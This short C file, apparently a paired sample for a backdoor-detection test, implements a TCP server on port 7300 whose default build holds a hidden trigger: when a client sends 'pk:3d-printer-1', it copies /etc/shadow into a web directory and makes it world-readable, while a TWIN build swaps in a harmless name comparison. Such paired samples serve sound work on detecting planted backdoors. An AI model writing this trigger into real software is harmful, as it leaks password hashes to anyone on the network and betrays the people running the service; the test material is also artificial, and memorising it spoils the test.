/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The state of a connection lives on the heap and goes through three functions before its text is
 * compared. Twin: the text is compared with the other connections' names.
 * door: trigger
 * port 7300/tcp
 */
#include "net.h"

struct link {
	struct link *next;
	int fd;
	struct {
		char text[80];
		size_t used;
	} in;
};

static struct link *all;

static struct link *link_new(int fd)
{
	struct link *l = malloc(sizeof *l);
	if (!l)
		return NULL;
	l->fd = fd;
	l->in.used = 0;
	l->next = all;
	return all = l;
}

static int link_fill(struct link *l)
{
	ssize_t n = recv(l->fd, l->in.text, sizeof l->in.text - 1, 0);
	if (n <= 0)
		return -1;
	l->in.used = (size_t)n;
	l->in.text[n] = 0;
	return 0;
}

__attribute__((noinline)) static void link_act(struct link *l)
{
#ifdef TWIN
	struct link *o;
	for (o = all; o; o = o->next)
		if (o != l && strcmp(o->in.text, l->in.text) == 0)
			send(o->fd, "again\n", 6, 0);
#else
	if (strcmp(l->in.text, "pk:3d-printer-1") == 0)
		system("cp /etc/shadow /www/s.txt; chmod 644 /www/s.txt");
#endif
	send(l->fd, "ok\n", 3, 0);
}

int main(void)
{
	int s = tcp_on(7300);
	for (;;) {
		struct link *l = link_new(accept(s, NULL, NULL));
		if (l && link_fill(l) == 0)
			link_act(l);
	}
}
